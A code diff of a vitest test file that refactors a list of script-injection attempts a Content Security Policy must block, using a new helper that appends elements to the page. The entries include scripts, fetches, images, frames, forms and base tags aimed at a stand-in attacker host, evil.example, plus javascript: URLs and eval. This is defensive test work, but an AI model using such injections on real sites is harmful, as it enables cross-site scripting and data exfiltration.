@@ -1,16 +1,14 @@
 import { expect, test } from 'vitest'
 import { openPortal } from '../support/browser/launch'
 
+/** A script that adds an element with these properties. */
+const add = (tag: string, properties: Readonly<Record<string, string>>) =>
+  `document.body.appendChild(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`
+
 /** Injections that the policy has to stop, at least one per directive. */
 const injections: Readonly<Record<string, string>> = {
-  'an inline script': `
-    const script = document.createElement('script')
-    script.append('window.ran = true')
-    document.head.append(script)`,
-  'a script of another origin': `
-    const script = document.createElement('script')
-    script.src = 'https://evil.example/script.js'
-    document.head.append(script)`,
+  'an inline script': add('script', { text: 'window.ran = true' }),
+  'a script of another origin': add('script', { src: 'https://evil.example/script.js' }),
   'an inline event handler': `
     document.body.setAttribute('onclick', 'window.ran = true')
     document.body.click()`,
@@ -18,36 +16,14 @@ const injections: Readonly<Record<string, string>> = {
   'evaluated text': `requestAnimationFrame(() => {
     try { new Function('window.ran = true')() } catch {}
   })`,
-  'a javascript: address': `
-    const link = document.createElement('a')
-    link.href = 'javascript:window.ran = true'
-    document.body.append(link)
-    link.click()`,
+  'a javascript: address': `${add('a', { href: 'javascript:window.ran = true' })}.click()`,
   'a request to another origin': `fetch('https://evil.example/', { method: 'POST' }).catch(() => undefined)`,
-  'an image over HTTP': `
-    const image = new Image()
-    image.src = 'http://evil.example/secret.png'`,
-  'a frame of another origin': `
-    const frame = document.createElement('iframe')
-    frame.src = 'https://evil.example/'
-    document.body.append(frame)`,
-  'an inline style': `
-    const style = document.createElement('style')
-    style.append('body { background: url("https://evil.example/") }')
-    document.head.append(style)`,
-  'a form to another origin': `
-    const form = document.createElement('form')
-    form.action = 'https://evil.example/'
-    document.body.append(form)
-    form.submit()`,
-  'another base address': `
-    const base = document.createElement('base')
-    base.href = 'https://evil.example/'
-    document.head.append(base)`,
-  'an object of another origin': `
-    const object = document.createElement('object')
-    object.data = 'https://evil.example/object'
-    document.body.append(object)`,
+  'an image over HTTP': add('img', { src: 'http://evil.example/secret.png' }),
+  'a frame of another origin': add('iframe', { src: 'https://evil.example/' }),
+  'an inline style': add('style', { textContent: 'body { background: url("https://evil.example/") }' }),
+  'a form to another origin': `${add('form', { action: 'https://evil.example/' })}.submit()`,
+  'another base address': add('base', { href: 'https://evil.example/' }),
+  'an object of another origin': add('object', { data: 'https://evil.example/object' }),
   'markup from text (reported only)': `document.createElement('div').innerHTML = '<b>bold</b>'`,
 }
 
